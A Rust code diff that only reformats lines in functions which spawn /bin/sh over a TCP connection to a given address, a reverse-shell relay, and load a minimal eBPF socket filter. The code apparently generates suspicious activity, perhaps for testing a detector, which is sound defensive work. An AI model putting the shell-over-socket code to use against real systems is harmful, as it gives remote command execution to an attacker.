@@ -108,8 +108,7 @@ fn socket_shell(address: &str) -> Result<()> {
 /// shell's.
 fn pipe_relay(address: &str) -> Result<()> {
     let socket = TcpStream::connect(address)?;
-    let mut shell =
-        Command::new("/bin/sh").stdin(Stdio::piped()).stdout(Stdio::piped()).spawn()?;
+    let mut shell = Command::new("/bin/sh").stdin(Stdio::piped()).stdout(Stdio::piped()).spawn()?;
     tell(shell.id())?;
     let mut input = shell.stdin.take().context("stdin is a pipe")?;
     let mut output = shell.stdout.take().context("stdout is a pipe")?;
@@ -176,24 +175,11 @@ fn bpf() -> Result<()> {
     let code: [u64; 2] = [0xb7, 0x95];
     let licence = c"GPL";
     // struct { u32 prog_type, insn_cnt; u64 insns, license; u32 log_level, log_size; u64 log_buf; … }
-    let attribute: [u64; 8] = [
-        SOCKET_FILTER | 2 << 32,
-        code.as_ptr() as u64,
-        licence.as_ptr() as u64,
-        0,
-        0,
-        0,
-        0,
-        0,
-    ];
+    let attribute: [u64; 8] =
+        [SOCKET_FILTER | 2 << 32, code.as_ptr() as u64, licence.as_ptr() as u64, 0, 0, 0, 0, 0];
     // SAFETY: the attribute's pointers lead to `code` and `licence`, which outlive the call.
     let raw = unsafe {
-        libc::syscall(
-            libc::SYS_bpf,
-            PROGRAM_LOAD,
-            attribute.as_ptr(),
-            size_of_val(&attribute),
-        )
+        libc::syscall(libc::SYS_bpf, PROGRAM_LOAD, attribute.as_ptr(), size_of_val(&attribute))
     };
     ensure!(raw >= 0, "no eBPF program: {}", std::io::Error::last_os_error());
     // SAFETY: the descriptor is new and ours.
